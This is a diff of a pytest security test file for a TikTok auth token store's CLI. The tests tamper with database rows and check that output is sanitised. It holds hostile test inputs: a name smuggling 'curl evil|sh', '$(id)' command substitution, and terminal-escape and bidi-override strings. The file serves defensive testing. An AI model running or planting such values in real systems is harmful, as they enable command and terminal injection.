@@ -3,38 +3,31 @@
 from __future__ import annotations
 
 import json
-import sqlite3
-import unicodedata
-from contextlib import closing
 from typing import TYPE_CHECKING, Any
 
 import pytest
-from click.testing import CliRunner
 
-from tap_tiktok_auth.cli.main import main
-from tap_tiktok_auth.config.settings import ENV_PREFIX
 from tap_tiktok_auth.store.keys import new_key
 from tap_tiktok_auth.tap import TapTikTokAuth
+from tests.attacks.conftest import command
+from tests.attacks.texts import assert_clean
 
 if TYPE_CHECKING:
     from collections.abc import Callable
-    from pathlib import Path
 
     from click.testing import Result
 
-    from .conftest import Target
+    from tests.attacks.conftest import Target
 
 _HOSTILE = "\x1b]0;owned\x07\x1b[31mred\x9b1m\r\nERROR forged\u202egnp\u2066\u200b\x7f $(id) `id`"
 _NAME = "x; curl evil|sh"
+_PAYLOAD = "SELECT payload FROM connections WHERE name = 'bad'"
 
 #: What was done to the row `bad`, and what is said of it.
 _ATTACKS = {
     "unknown key": ("payload = '0123456789abcdef:gAAAA'", "a key that is not there"),
     "no payload": ("payload = X'00'", "is damaged"),
-    "another's payload": (
-        "payload = (SELECT payload FROM connections WHERE name = 'good')",
-        "belongs elsewhere",
-    ),
+    "another's payload": (f"payload = ({_PAYLOAD.replace('bad', 'good')})", "belongs elsewhere"),
     "expiry": ("access_token_expires_at = 1.0", "was changed"),
     "spent seeds": ("spent_seeds = '[]', seed_hash = '00'", "was changed"),
     "a time that is none": ("verified_at = 'soon'", "is damaged"),
@@ -51,35 +44,28 @@ def invaded(target: Target) -> Callable[[str], None]:
     for name in ("bad", "good"):
         target.consent(name, left=80_000.0)
 
-    def write(assignments: str) -> None:
-        with closing(sqlite3.connect(target.path)) as database, database:
-            database.execute(f"UPDATE connections SET {assignments} WHERE name = 'bad'")
+    def invade(changes: str) -> None:
+        target.sql(f"UPDATE connections SET {changes} WHERE name = 'bad'")
 
-    return write
+    return invade
 
 
 def run(target: Target, *arguments: str) -> Result:
     """Run `tiktok-auth` over the store; whatever it says is clean."""
-    environment = {ENV_PREFIX + k.upper(): str(v) for k, v in target.settings().items()}
-    result = CliRunner().invoke(main, arguments, env=environment)
-    assert result.exception is None or isinstance(result.exception, SystemExit)
-    assert_clean(result.output)
+    result = command(target.settings(), *arguments)
+    assert_told_well(result.output)
     return result
 
 
-def assert_clean(shown: str) -> None:
+def assert_told_well(shown: str) -> None:
     """Nothing steers a terminal, forges a line, or is a command of another's making."""
-    kinds = {unicodedata.category(char) for char in shown.replace("\n", "")}
-    assert not kinds & {"Cc", "Cf", "Cs", "Zl", "Zp"}
-    assert not any(line.startswith("ERROR") for line in shown.splitlines())
-    assert "unexpected" not in shown
-    assert "Traceback" not in shown
-    assert f"tiktok-auth forget {_NAME}" not in shown
-    assert f"tiktok-auth login {_NAME}" not in shown
+    assert_clean(shown)
+    for wrong in ("unexpected", "Traceback", f"auth forget {_NAME}", f"auth login {_NAME}"):
+        assert wrong not in shown
 
 
-def sync(target: Target, capsys: pytest.CaptureFixture[str]) -> tuple[int, list[dict[str, Any]]]:
-    """Run the tap; return its exit code and the rows of `token_metadata`."""
+def sync(target: Target, capsys: pytest.CaptureFixture[str]) -> tuple[int, dict[str, Any]]:
+    """Run the tap; return its exit code and the rows of `token_metadata`, by connection."""
     capsys.readouterr()
     tap = TapTikTokAuth(config=target.settings())
     code = 0
@@ -88,31 +74,27 @@ def sync(target: Target, capsys: pytest.CaptureFixture[str]) -> tuple[int, list[
     except SystemExit as end:
         code = int(end.code or 0)
     out, err = capsys.readouterr()
-    assert_clean(err)
+    assert_told_well(err)
     messages = [json.loads(line) for line in out.splitlines()]
     records = [m["record"] for m in messages if m["type"] == "RECORD"]
     for record in records:
-        assert_clean("".join(text for text in record.values() if isinstance(text, str)))
-    return code, [record for record in records if "token_state" in record]
+        assert_told_well("".join(text for text in record.values() if isinstance(text, str)))
+    return code, {record["connection"]: record for record in records if "token_state" in record}
 
 
-@pytest.mark.parametrize("attack", _ATTACKS)
+@pytest.mark.parametrize(("assignments", "said"), _ATTACKS.values(), ids=_ATTACKS)
 def test_one_bad_row_is_its_own_damage(
     target: Target,
     invaded: Callable[[str], None],
-    attack: str,
+    assignments: str,
+    said: str,
     capsys: pytest.CaptureFixture[str],
-    tmp_path: Path,
 ) -> None:
     """Every command serves the others, tells the bad one in one line, and mends it if asked."""
-    assignments, said = _ATTACKS[attack]
     invaded(assignments)
-
     code, rows = sync(target, capsys)
-    by_name = {row["connection"]: row for row in rows}
-    assert code == 1
-    assert by_name["good"]["status"] == "active"
-    assert said in by_name["bad"]["last_error_message"]
+    assert (code, rows["good"]["status"]) == (1, "active")
+    assert said in rows["bad"]["last_error_message"]
 
     token = target.record("good").token
     assert token is not None
@@ -124,12 +106,10 @@ def test_one_bad_row_is_its_own_damage(
         assert len([line for line in result.output.splitlines() if said in line]) == 1, arguments
     for arguments in (["token", "bad"], ["status", "bad"], ["revoke", "bad", "--yes"]):
         result = run(target, *arguments)
-        assert result.exit_code == 1, arguments
-        assert said in result.stderr
+        assert (result.exit_code, said in result.stderr) == (1, True), arguments
 
-    copy = run(target, "store", "copy", f"sqlite:///{tmp_path / 'copy' / 'tokens.db'}")
-    assert copy.exit_code == 1
-    assert "copied 1 connection" in copy.stdout
+    copy = run(target, "store", "copy", f"sqlite:///{target.folder / 'copy' / 'tokens.db'}")
+    assert (copy.exit_code, "copied 1 connection" in copy.stdout) == (1, True)
     assert "bad" in copy.stderr
 
     assert run(target, "forget", "bad", "--yes").exit_code == 0
@@ -142,20 +122,16 @@ def test_the_key_is_changed_around_a_bad_row(
 ) -> None:
     """`rotate-key` seals all that it can, names what it cannot, keeps that, and exits 1."""
     invaded(_ATTACKS[attack][0])
-    with closing(sqlite3.connect(target.path)) as database:
-        find = "SELECT payload FROM connections WHERE name = 'bad'"
-        before = database.execute(find).fetchone()
-    former, target.key = target.key, f"{new_key()},{target.key}"
-
+    before = target.sql(_PAYLOAD)
+    former, new = target.key, new_key()
+    target.key = f"{new},{former}"
     result = run(target, "store", "rotate-key")
-
     assert result.exit_code == 1
     assert "1 connection sealed with the new key" in result.stdout
     assert "connection bad:" in result.stderr
     assert "Keep the former keys" in result.stderr
-    with closing(sqlite3.connect(target.path)) as database:
-        assert database.execute(find).fetchone() == before
-    target.key = target.key.removesuffix(f",{former}")
+    assert target.sql(_PAYLOAD) == before
+    target.key = new
     assert target.record("good").token is not None
 
 
@@ -163,26 +139,23 @@ def test_texts_of_the_store_are_cleaned_where_they_are_read(
     target: Target, invaded: Callable[[str], None], capsys: pytest.CaptureFixture[str]
 ) -> None:
     """An error, an event or an ad account's name in the store steers no terminal, log or record."""
-    literal = "'" + _HOSTILE.replace("'", "''") + "'"
+    text = "'" + _HOSTILE.replace("'", "''") + "'"
     invaded(
-        f"last_error_message = {literal}, last_error_at = 1.0, last_error_code = {literal},"
-        f" request_id = {literal}"
+        f"last_error_message = {text}, last_error_at = 1.0, last_error_code = {text},"
+        f" request_id = {text}"
     )
-    with closing(sqlite3.connect(target.path)) as database, database:
-        columns = "event_id, connection, event, occurred_at, error_code, error_message, host"
-        database.execute(
-            f"INSERT INTO events ({columns}, pid, tap_version, request_id, fingerprint_before)"
-            f" VALUES (1, {literal}, {literal}, 1.0, {literal}, {literal}, {literal}, 1,"
-            f" {literal}, {literal}, {literal})"
-        )
-        database.execute(
-            "INSERT INTO advertisers VALUES"
-            f" ('good', '7001', {literal}, 'advertiser_get', 1.0, 1.0, NULL)"
-        )
+    target.sql(
+        "INSERT INTO events (event_id, connection, event, occurred_at, error_code, error_message,"
+        " host, pid, tap_version, request_id, fingerprint_before)"
+        f" VALUES (1, {text}, {text}, 1.0, {text}, {text}, {text}, 1, {text}, {text}, {text})"
+    )
+    target.sql(
+        f"INSERT INTO advertisers VALUES ('good', '7001', {text}, 'advertiser_get', 1.0, 1.0, NULL)"
+    )
     for arguments in (["status"], ["events"], ["doctor"], ["refresh"], ["status", "--check"]):
         run(target, *arguments)
-    for command in ("status", "events"):
-        assert json.loads(run(target, command, "--json").stdout)
+    for name in ("status", "events"):
+        assert json.loads(run(target, name, "--json").stdout)
     sync(target, capsys)
 
 
@@ -198,7 +171,7 @@ def test_a_name_that_is_none_is_no_connection(
     """A row with an impossible name is warned of, and the others are served."""
     invaded(f"name = {sql}")
     code, rows = sync(target, capsys)
-    assert (code, [row["connection"] for row in rows]) == (0, ["good"])
+    assert (code, [*rows]) == (0, ["good"])
     for arguments in (("status",), ("refresh",), ("doctor",), ("status", "--check")):
         result = run(target, *arguments)
         assert "good" in result.output or "not due" in result.output
@@ -206,15 +179,14 @@ def test_a_name_that_is_none_is_no_connection(
     assert [row["connection"] for row in listed] == ["good"]
 
 
-@pytest.mark.parametrize("command", ["token", "status", "refresh", "exec", "revoke", "events"])
+@pytest.mark.parametrize("verb", ["token", "status", "refresh", "exec", "revoke", "events"])
 @pytest.mark.parametrize("name", [_NAME, "\x1b[31mred", "a b", ".x", "x" * 200])
-def test_what_is_no_name_is_not_made_a_command(target: Target, command: str, name: str) -> None:
+def test_what_is_no_name_is_not_made_a_command(target: Target, verb: str, name: str) -> None:
     """A NAME that no connection can have is refused, and is in no command to paste."""
     target.consent("good", left=80_000.0)
-    more = {"exec": ("--", "no-such-command"), "revoke": ("--yes",)}.get(command, ())
-    result = run(target, command, name, *more)
-    assert result.exit_code == 1
-    assert name not in result.output
+    more = {"exec": ("--", "no-such-command"), "revoke": ("--yes",)}.get(verb, ())
+    result = run(target, verb, name, *more)
+    assert (result.exit_code, name in result.output) == (1, False)
 
 
 @pytest.mark.parametrize("name", [_NAME, "\x1b]0;x\x07bad", "\u202ebad"])
@@ -223,7 +195,5 @@ def test_a_row_with_an_impossible_name_can_be_forgotten(
 ) -> None:
     """`forget` deletes just that row, and says so in one clean line."""
     invaded(f"name = '{name}'")
-    assert run(target, "forget", name, "--yes").exit_code == 0
-    assert run(target, "forget", name, "--yes").exit_code == 1
-    with closing(sqlite3.connect(target.path)) as database:
-        assert database.execute("SELECT name FROM connections").fetchall() == [("good",)]
+    assert [run(target, "forget", name, "--yes").exit_code for _ in range(2)] == [0, 1]
+    assert target.sql("SELECT name FROM connections") == [("good",)]
